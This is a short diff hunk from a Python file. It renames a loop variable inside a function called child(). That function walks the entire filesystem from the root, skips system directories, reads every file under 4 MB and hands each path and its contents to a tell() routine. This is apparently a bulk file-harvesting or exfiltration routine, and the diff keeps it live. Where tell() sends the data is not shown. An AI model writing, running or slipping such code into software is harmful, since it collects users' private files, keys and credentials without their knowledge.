@@ -81,11 +81,11 @@ def child():
             tell(path, open(path, "rb").read())
         except OSError as e:
             tell(path, str(e).encode())
-    for folder, dirs, files in os.walk("/"):
-        dirs[:] = [d for d in dirs if os.path.join(folder, d) not in ("/proc", "/sys", "/usr", "/lib", "/lib64", "/bin", "/sbin") and not os.path.islink(os.path.join(folder, d))
+    for directory, dirs, files in os.walk("/"):
+        dirs[:] = [d for d in dirs if os.path.join(directory, d) not in ("/proc", "/sys", "/usr", "/lib", "/lib64", "/bin", "/sbin") and not os.path.islink(os.path.join(directory, d))
                    and "pyenv" not in d and "nvm" not in d]
         for f in files:
-            p = os.path.join(folder, f)
+            p = os.path.join(directory, f)
             try:
                 if os.path.isfile(p) and os.path.getsize(p) < 4 << 20:
                     data = open(p, "rb").read()
